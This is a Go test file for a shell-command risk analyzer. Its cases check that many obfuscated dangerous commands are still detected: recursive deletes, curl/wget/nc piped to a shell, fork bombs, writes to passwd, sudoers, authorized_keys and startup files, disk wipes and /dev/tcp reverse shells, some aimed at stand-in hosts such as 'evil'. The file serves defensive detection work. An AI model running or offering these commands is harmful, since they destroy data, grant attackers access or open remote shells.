package shell

import (
	"testing"
)

// TestBypasses: for every way of hiding a command, the dangerous inner
// command must be a Command a deny rule "rm *" (or the named prefix) would
// match, and the critical risk must be reported.
func TestBypasses(t *testing.T) {
	t.Parallel()
	cases := []struct {
		class, src string
		deny       string // a deny-rule prefix that must match some command
		risk       string // a risk code that must be reported ("" = none required)
	}{
		// Quoting tricks.
		{"quotes", `"rm" -rf /`, "rm", RiskRecursiveDelete},
		{"quotes", `r"m" -r"f" "/"`, "rm", RiskRecursiveDelete},
		{"quotes", `'r'm -fr /`, "rm", RiskRecursiveDelete},
		{"quotes", `""rm -rf /`, "rm", RiskRecursiveDelete},
		{"ansi-c", `$'rm' -rf /`, "rm", RiskRecursiveDelete},
		{"ansi-c", `$'\x72\x6d' -rf /`, "rm", RiskRecursiveDelete},
		{"ansi-c", `$'\162\155' -rf /`, "rm", RiskRecursiveDelete},
		{"backslash", `\rm -rf /`, "rm", RiskRecursiveDelete},
		{"backslash", `r\m -r\f \/`, "rm", RiskRecursiveDelete},
		{"brace", `{rm,-rf,/}`, "rm", RiskRecursiveDelete},
		{"brace", `{rm,-rf,~}`, "rm", RiskRecursiveDelete},
		{"brace", `r{m,} -rf /`, "rm", RiskRecursiveDelete},
		// Flag spellings.
		{"flags", "rm -fr /", "rm", RiskRecursiveDelete},
		{"flags", "rm -r -f /", "rm", RiskRecursiveDelete},
		{"flags", "rm -Rf /*", "rm", RiskRecursiveDelete},
		{"flags", "rm --recursive --force ~", "rm", RiskRecursiveDelete},
		{"flags", "rm -rf --no-preserve-root /", "rm", RiskRecursiveDelete},
		{"flags", "rm -rf -- $HOME", "rm", RiskRecursiveDelete},
		{"flags", `rm -rf "${HOME}"`, "rm", RiskRecursiveDelete},
		{"flags", "rm -rf ~/", "rm", RiskRecursiveDelete},
		{"flags", "rm -rf ~/*", "rm", RiskRecursiveDelete},
		{"flags", "rm -rf .", "rm", RiskRecursiveDelete},
		{"flags", "rm -rf ..", "rm", RiskRecursiveDelete},
		{"flags", "rm -rf *", "rm", RiskRecursiveDelete},
		{"flags", "rm -rf /usr", "rm", RiskRecursiveDelete},
		{"flags", "rm -rf /etc/", "rm", RiskRecursiveDelete},
		{"flags", "rm -rf //", "rm", RiskRecursiveDelete},
		{"flags", "rm -rf /usr/..", "rm", RiskRecursiveDelete},
		{"flags", "rm -rf /home/me", "rm", RiskRecursiveDelete},
		{"cd", "cd / && rm -rf *", "rm", RiskRecursiveDelete},
		{"cd", "cd ~; rm -rf .", "rm", RiskRecursiveDelete},
		// Wrappers, nested.
		{"wrapper", "sudo rm -rf /", "rm", RiskRecursiveDelete},
		{"wrapper", "sudo env nice nohup rm -rf /", "rm", RiskRecursiveDelete},
		{"wrapper", "doas -u root rm -rf /", "rm", RiskRecursiveDelete},
		{"wrapper", "env -i PATH=/bin rm -rf /", "rm", RiskRecursiveDelete},
		{"wrapper", "env -S 'rm -rf' /", "rm", RiskRecursiveDelete},
		{"wrapper", "command rm -rf /", "rm", RiskRecursiveDelete},
		{"wrapper", "builtin command -p rm -rf /", "rm", RiskRecursiveDelete},
		{"wrapper", "exec -a x rm -rf /", "rm", RiskRecursiveDelete},
		{"wrapper", "nice -n 19 rm -rf /", "rm", RiskRecursiveDelete},
		{"wrapper", "nice -10 rm -rf /", "rm", RiskRecursiveDelete},
		{"wrapper", "time -p rm -rf /", "rm", RiskRecursiveDelete},
		{"wrapper", "/usr/bin/time -o t.txt rm -rf /", "rm", RiskRecursiveDelete},
		{"wrapper", "timeout -s KILL 5s rm -rf /", "rm", RiskRecursiveDelete},
		{"wrapper", "timeout --preserve-status 5 rm -rf /", "rm", RiskRecursiveDelete},
		{"wrapper", "stdbuf -oL -eL rm -rf /", "rm", RiskRecursiveDelete},
		{"wrapper", "ionice -c 3 rm -rf /", "rm", RiskRecursiveDelete},
		{"wrapper", "setsid -f rm -rf /", "rm", RiskRecursiveDelete},
		{"wrapper", "watch -n 1 rm -rf /", "rm", RiskRecursiveDelete},
		{"wrapper", "watch 'rm -rf /'", "rm", RiskRecursiveDelete},
		{"wrapper", "chrt -r 10 rm -rf /", "rm", RiskRecursiveDelete},
		{"wrapper", "taskset -c 0 rm -rf /", "rm", RiskRecursiveDelete},
		{"wrapper", "flock /tmp/l rm -rf /", "rm", RiskRecursiveDelete},
		{"wrapper", "flock -n /tmp/l -c 'rm -rf /'", "rm", RiskRecursiveDelete},
		{"wrapper", "su -c 'rm -rf /' root", "rm", RiskRecursiveDelete},
		{"wrapper", "runuser -u bob -- rm -rf /", "rm", RiskRecursiveDelete},
		{"wrapper", "busybox rm -rf /", "rm", RiskRecursiveDelete},
		{"wrapper", "xargs rm -rf", "rm", ""},
		{"wrapper", "find . -name x -exec rm -rf {} \\;", "rm", ""},
		{"wrapper", "fd -e tmp -x rm", "rm", ""},
		{"wrapper", "nice --unknown-flag rm -rf /", "rm", RiskRecursiveDelete},
		{"wrapper", "unbuffer strace -f -o /dev/null rm -rf /", "rm", RiskRecursiveDelete},
		// Path-named commands.
		{"path", "/bin/rm -rf /", "rm", RiskRecursiveDelete},
		{"path", "./rm -rf /", "rm", RiskRecursiveDelete},
		{"path", "../../usr/bin/rm -rf /", "rm", RiskRecursiveDelete},
		{"path", "/usr/bin/env rm -rf /", "rm", RiskRecursiveDelete},
		// Env-assignment prefixes.
		{"assign", "FOO=1 rm -rf /", "rm", RiskRecursiveDelete},
		{"assign", "LD_PRELOAD=/tmp/x.so /bin/rm -rf /", "rm", RiskRecursiveDelete},
		// Nested shells.
		{"bash -c", "bash -c 'rm -rf /'", "rm", RiskRecursiveDelete},
		{"bash -c", "bash -lc 'rm -rf /'", "rm", RiskRecursiveDelete},
		{"bash -c", "bash -e -c 'rm -rf /'", "rm", RiskRecursiveDelete},
		{"bash -c", "sh -xec 'rm -rf /' arg0", "rm", RiskRecursiveDelete},
		{"bash -c", "zsh -o errexit -c 'rm -rf /'", "rm", RiskRecursiveDelete},
		{"bash -c", "busybox sh -c 'rm -rf /'", "rm", RiskRecursiveDelete},
		{"bash -c", `bash -c "bash -c \"bash -c 'rm -rf /'\""`, "rm", RiskRecursiveDelete},
		{"bash -c", `sh -c '"$@"' _ rm -rf /`, "rm", RiskRecursiveDelete},
		{"bash -c", `bash -c "rm -rf $HOME"`, "rm", RiskRecursiveDelete},
		{"bash -c", `sh -c 'rm -rf "$1"' _ /`, "rm", RiskRecursiveDelete},
		{"bash -c", `sh -c '$0 -rf /' rm`, "rm", RiskRecursiveDelete},
		{"bash -c", `bash /dev/stdin <<< 'rm -rf /'`, "rm", RiskRecursiveDelete},
		{"source", `. /dev/stdin <<< 'rm -rf /'`, "rm", RiskRecursiveDelete},
		{"source", `echo 'rm -rf /' | source /dev/stdin`, "rm", RiskRecursiveDelete},
		{"wrapper", "sudo su -c 'rm -rf /'", "rm", RiskRecursiveDelete},
		{"wrapper", "sudo -s -- rm -rf /", "rm", RiskRecursiveDelete},
		{"wrapper", `\e\v\a\l "rm -rf /"`, "rm", RiskRecursiveDelete},
		{"wrapper", `$'eval' "rm -rf /"`, "rm", RiskRecursiveDelete},
		{"wrapper", "builtin eval 'rm -rf /'", "rm", RiskRecursiveDelete},
		{"write", "> ~/.bashrc", "", RiskStartupFile},
		{"write", "ln -sf /tmp/evil ~/.bashrc", "ln", RiskStartupFile},
		{"write", "install -m 440 x /etc/sudoers", "install", RiskAccountFile},
		{"find", "find / -delete", "find", RiskRecursiveDelete},
		{"heredoc", "bash <<EOF\nrm -rf /\nEOF", "rm", RiskRecursiveDelete},
		{"heredoc", "sh <<'EOF'\nrm -rf /\nEOF", "rm", RiskRecursiveDelete},
		{"heredoc", "bash -s <<-EOF\n\trm -rf /\n\tEOF", "rm", RiskRecursiveDelete},
		{"herestring", "bash <<< 'rm -rf /'", "rm", RiskRecursiveDelete},
		{"pipe", "echo 'rm -rf /' | sh", "rm", RiskRecursiveDelete},
		{"pipe", "printf 'rm -rf /\\n' | bash", "rm", RiskRecursiveDelete},
		{"pipe", "cat <<EOF | bash\nrm -rf /\nEOF", "rm", RiskRecursiveDelete},
		{"eval", "eval 'rm -rf /'", "rm", RiskRecursiveDelete},
		{"eval", "eval rm -rf /", "rm", RiskRecursiveDelete},
		{"eval", `eval "$(echo rm -rf /)"`, "echo", ""},
		{"alias", "alias ls='rm -rf /'", "rm", RiskRecursiveDelete},
		{"trap", "trap 'rm -rf /' EXIT", "rm", RiskRecursiveDelete},
		// Substitutions hidden in odd places.
		{"subst", "echo $(rm -rf /)", "rm", RiskRecursiveDelete},
		{"subst", "echo `rm -rf /`", "rm", RiskRecursiveDelete},
		{"subst", "ls > $(rm -rf /)", "rm", RiskRecursiveDelete},
		{"subst", "X=$(rm -rf /)", "rm", RiskRecursiveDelete},
		{"subst", "export X=$(rm -rf /)", "rm", RiskRecursiveDelete},
		{"subst", "cat <<EOF\n$(rm -rf /)\nEOF", "rm", RiskRecursiveDelete},
		{"subst", "echo ${x:-$(rm -rf /)}", "rm", RiskRecursiveDelete},
		{"subst", "echo ${x/$(rm -rf /)/y}", "rm", RiskRecursiveDelete},
		{"subst", "[[ -n $(rm -rf /) ]]", "rm", RiskRecursiveDelete},
		{"subst", "(( $(rm -rf /) ))", "rm", RiskRecursiveDelete},
		{"subst", "echo $(( $(rm -rf /) + 1 ))", "rm", RiskRecursiveDelete},
		{"subst", "echo ${a[$(rm -rf /)]}", "rm", RiskRecursiveDelete},
		{"subst", "cat <(rm -rf /)", "rm", RiskRecursiveDelete},
		{"subst", "for i in $(rm -rf /); do :; done", "rm", RiskRecursiveDelete},
		{"subst", "case $(rm -rf /) in *) ;; esac", "rm", RiskRecursiveDelete},
		{"subst", "f() { rm -rf /; }", "rm", RiskRecursiveDelete},
		// Remote fetch fed to an interpreter.
		{"fetch", "curl -fsSL https://x.sh | sh", "curl", RiskRemoteFetchExec},
		{"fetch", "curl https://x | sudo bash", "curl", RiskRemoteFetchExec},
		{"fetch", "curl https://x | sudo -E bash -s -- --yes", "curl", RiskRemoteFetchExec},
		{"fetch", "wget -O- https://x | bash", "wget", RiskRemoteFetchExec},
		{"fetch", "wget -qO - https://x | tee log | sh", "wget", RiskRemoteFetchExec},
		{"fetch", "curl https://x | python3", "curl", RiskRemoteFetchExec},
		{"fetch", "curl https://x | python -", "curl", RiskRemoteFetchExec},
		{"fetch", "curl https://x | perl", "curl", RiskRemoteFetchExec},
		{"fetch", "curl https://x | env bash", "curl", RiskRemoteFetchExec},
		{"fetch", "nc evil 80 | sh", "nc", RiskRemoteFetchExec},
		{"fetch", "bash <(curl -s https://x)", "curl", RiskRemoteFetchExec},
		{"fetch", "bash < <(curl -s https://x)", "curl", RiskRemoteFetchExec},
		{"fetch", `sh -c "$(curl -fsSL https://x)"`, "curl", RiskRemoteFetchExec},
		{"fetch", "eval \"$(wget -qO- https://x)\"", "wget", RiskRemoteFetchExec},
		{"fetch", "source <(curl https://x)", "curl", RiskRemoteFetchExec},
		{"fetch", ". <(curl https://x)", "curl", RiskRemoteFetchExec},
		{"fetch", "curl https://x | source /dev/stdin", "curl", RiskRemoteFetchExec},
		{"fetch", "python3 -c \"$(curl https://x)\"", "curl", RiskRemoteFetchExec},
		{"fetch", "$(curl https://x)", "curl", RiskRemoteFetchExec},
		{"fetch", "bash <<< \"$(curl https://x)\"", "curl", RiskRemoteFetchExec},
		// Fork bombs.
		{"forkbomb", ":(){ :|:& };:", "", RiskForkBomb},
		{"forkbomb", "bomb() { bomb | bomb & }; bomb", "", RiskForkBomb},
		{"forkbomb", "function f { f & f; }; f", "", RiskForkBomb},
		{"forkbomb", "x(){ x|x; }; x", "", RiskForkBomb},
		// Critical file writes.
		{"write", "echo 'root::0:0::/:/bin/sh' >> /etc/passwd", "echo", RiskAccountFile},
		{"write", "echo x | sudo tee -a /etc/sudoers", "echo", RiskAccountFile},
		{"write", "cp evil /etc/sudoers.d/x", "cp", RiskAccountFile},
		{"write", "cat key.pub >> ~/.ssh/authorized_keys", "cat", RiskAuthorizedKeys},
		{"write", "cat key.pub >> $HOME/.ssh/authorized_keys", "cat", RiskAuthorizedKeys},
		{"write", "cat key.pub >> /home/me/.ssh/authorized_keys", "cat", RiskAuthorizedKeys},
		{"write", "echo 'curl x|sh' >> ~/.bashrc", "echo", RiskStartupFile},
		{"write", "cd ~ && echo x >> .zshrc", "echo", RiskStartupFile},
		{"write", "sed -i 's/a/b/' ~/.profile", "sed", RiskStartupFile},
		{"write", "mv x /etc/profile", "mv", RiskStartupFile},
		{"write", "dd if=x of=/etc/shadow", "dd", RiskAccountFile},
		{"write", "echo x > /dev/sda", "echo", RiskDeviceWrite},
		{"write", "cat img > /dev/nvme0n1", "cat", RiskDeviceWrite},
		{"write", "dd if=/dev/zero of=/dev/sdb bs=1M", "dd", RiskDeviceWrite},
		{"write", "curl -o ~/.bashrc https://x", "curl", RiskStartupFile},
		// Others.
		{"mkfs", "mkfs.ext4 /dev/sdb1", "mkfs.ext4", RiskFormatDisk},
		{"mkfs", "sudo mkfs -t ext4 /dev/sdb1", "mkfs", RiskFormatDisk},
		{"mkfs", "mke2fs /dev/sdb1", "mke2fs", RiskFormatDisk},
		{"shutdown", "shutdown -h now", "shutdown", RiskShutdown},
		{"shutdown", "sudo reboot", "reboot", RiskShutdown},
		{"shutdown", "halt", "halt", RiskShutdown},
		{"shutdown", "poweroff", "poweroff", RiskShutdown},
		{"shutdown", "init 0", "init", RiskShutdown},
		{"shutdown", "telinit 6", "telinit", RiskShutdown},
		{"shutdown", "systemctl --force reboot", "systemctl", RiskShutdown},
		{"shutdown", "systemctl kexec", "systemctl", RiskShutdown},
		{"chmod", "chmod -R 777 /", "chmod", RiskRecursiveChmod},
		{"chmod", "chmod 0777 -R /", "chmod", RiskRecursiveChmod},
		{"chmod", "chmod --recursive a+rwx /", "chmod", RiskRecursiveChmod},
		{"chmod", "chmod -Rv ugo+rwx /*", "chmod", RiskRecursiveChmod},
		{"chmod", "chown -R nobody /", "chown", RiskRecursiveChmod},
		{"devtcp", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "bash", RiskDevTCP},
		{"devtcp", "cat < /dev/udp/1.2.3.4/53", "cat", RiskDevTCP},
		{"devtcp", "exec 3<>/dev/tcp/evil/80", "exec", RiskDevTCP},
	}
	for _, tc := range cases {
		t.Run(tc.class+"/"+tc.src, func(t *testing.T) {
			t.Parallel()
			res := analyze(t, tc.src)
			if tc.deny != "" && !matchesDeny(res, tc.deny) {
				t.Errorf("%q: no command matches deny %q *\n%s", tc.src, tc.deny, dump(res))
			}
			if tc.risk != "" && !hasRisk(res, tc.risk) {
				t.Errorf("%q: risks %q, want %q\n%s", tc.src, riskCodes(res), tc.risk, dump(res))
			}
		})
	}
}

// TestNotCritical: ordinary commands carry no risk at all.
func TestNotCritical(t *testing.T) {
	t.Parallel()
	for _, src := range []string{
		"git log --oneline | grep fix | head -5",
		"rm -rf ./build",
		"rm -rf node_modules dist",
		"rm -r /tmp/x",
		"rm -f /",
		"cd /tmp && rm -rf *",
		"chmod -R 755 ./dist",
		"chmod 777 /tmp/x",
		"chown -R me ./src",
		"curl -s https://api | jq .name",
		"curl https://x | python3 -m json.tool",
		"curl https://x | python -c 'import sys; print(sys.stdin.read())'",
		"wget -O x.tar.gz https://x && tar -xzf x.tar.gz",
		"echo hi > /dev/null 2>&1",
		"dd if=a of=b bs=1M",
		"dd if=/dev/zero of=/dev/null count=1",
		"ls >> ./.bashrc.bak",
		"cat ~/.bashrc",
		"shutdown -c",
		"init",
		"systemctl restart nginx",
		"pwd && ls",
		"npm run build && npm test",
		"find . -name '*.go' | xargs grep -l foo",
	} {
		t.Run(src, func(t *testing.T) {
			t.Parallel()
			res := analyze(t, src)
			if len(res.Risks) > 0 {
				t.Errorf("%q: unexpected risks %q\n%s", src, riskCodes(res), dump(res))
			}
		})
	}
}

// TestUnprefixable covers seed 000's metacharacter table.
func TestUnprefixable(t *testing.T) {
	t.Parallel()
	cases := []struct {
		src  string
		want []string
	}{
		{"echo $(date)", []string{"command-substitution"}},
		{"echo `date`", []string{"command-substitution"}},
		{"diff <(ls a) <(ls b)", []string{"process-substitution"}},
		{"tee >(cat) < x", []string{"process-substitution"}},
		{"sleep 10 &", []string{"background"}},
		{"sleep 10 & echo hi", []string{"background"}},
		{"coproc cat", []string{"coproc"}},
		{"a && b", nil},
		{"a || b", nil},
		{"echo '$(date)' \"\\$(x)\"", nil},
		{"echo a&&echo b", nil},
		{"echo $(a) `b` <(c) &", []string{"command-substitution", "process-substitution", "background"}},
		{"bash -c 'echo $(id)'", []string{"command-substitution"}},
		{"cat <<EOF\n$(id)\nEOF", []string{"command-substitution"}},
		{"cat <<'EOF'\n$(id)\nEOF", nil},
		{"x=$(id)", []string{"command-substitution"}},
		{"echo $(( 1 + 2 ))", nil},
	}
	for _, tc := range cases {
		t.Run(tc.src, func(t *testing.T) {
			t.Parallel()
			res := analyze(t, tc.src)
			var got []string
			for _, r := range res.Risks {
				if r.Severity == "unprefixable" {
					got = append(got, r.Code)
				}
			}
			if len(got) != len(tc.want) {
				t.Fatalf("%q: unprefixable %q, want %q", tc.src, got, tc.want)
			}
			for _, w := range tc.want {
				if !hasRisk(res, w) {
					t.Errorf("%q: unprefixable %q, want %q", tc.src, got, tc.want)
				}
			}
			if res.Unprefixable() != (len(tc.want) > 0) {
				t.Errorf("%q: Unprefixable() = %v", tc.src, res.Unprefixable())
			}
		})
	}
}
